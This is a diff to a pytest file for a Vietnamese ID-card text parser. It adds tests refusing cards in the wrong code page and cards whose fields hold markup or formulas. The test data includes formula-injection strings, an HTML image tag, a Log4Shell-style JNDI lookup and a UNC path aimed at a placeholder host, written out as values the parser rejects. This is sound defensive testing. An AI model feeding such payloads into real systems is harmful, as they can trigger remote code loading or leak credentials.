@@ -122,7 +122,6 @@ def test_eleven_digits_are_counted_in_the_sentence():
         with_field(2, "NGUYỄ\u0301N VĂN AN"),
         with_field(2, "NGUYE64N VA8N AN"),
         with_field(2, "NGUY?N VĂN AN"),
-        with_field(2, "NGUY\ufffdN VĂN AN"),
         with_field(4, "Nuwx"),
         with_field(4, "Nu74"),
         with_field(5, "Tổ 5, phườ\u0301ng Nghĩa Chánh"),
@@ -134,6 +133,41 @@ def test_what_an_input_method_changed_is_refused_and_says_how_to_switch(text):
     assert refusal.code == "card_mangled"
     assert "cổng COM" in refusal.vi
     assert "COM port" in refusal.en
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        CARD.encode().decode("latin-1"),
+        CARD.encode().decode("cp1252", errors="replace"),
+        CARD.encode("cp1258", errors="replace").decode("utf-8", errors="replace"),
+        with_field(2, "NGUY\ufffdN VĂN AN"),
+    ],
+)
+def test_a_card_in_a_wrong_code_page_is_refused_and_says_which_to_set(text):
+    refusal = read_card(text)
+    assert isinstance(refusal, Refusal)
+    assert refusal.code == "card_code_page"
+    assert "UTF-8" in refusal.vi
+    assert "UTF-8" in refusal.en
+
+
+@pytest.mark.parametrize(
+    ("place", "value"),
+    [
+        (2, "=HYPERLINK(A1)"),
+        (2, "@SUM(A1)"),
+        (2, "<img src='//192.0.2.1/a'>"),
+        (5, "Tổ 5 <b>Nghĩa Lộ</b>"),
+        (5, "${jndi:ldap://192.0.2.1/a}"),
+        (5, "\\\\192.0.2.1\\a"),
+    ],
+)
+def test_a_fake_card_with_markup_or_a_formula_is_no_person(place, value):
+    refusal = read_card(with_field(place, value))
+    assert isinstance(refusal, Refusal)
+    assert refusal.code == "card_foreign_signs"
+    assert "nhập tay" in refusal.vi
 
 
 @pytest.mark.parametrize("method", [vni, vietnamese_layout])
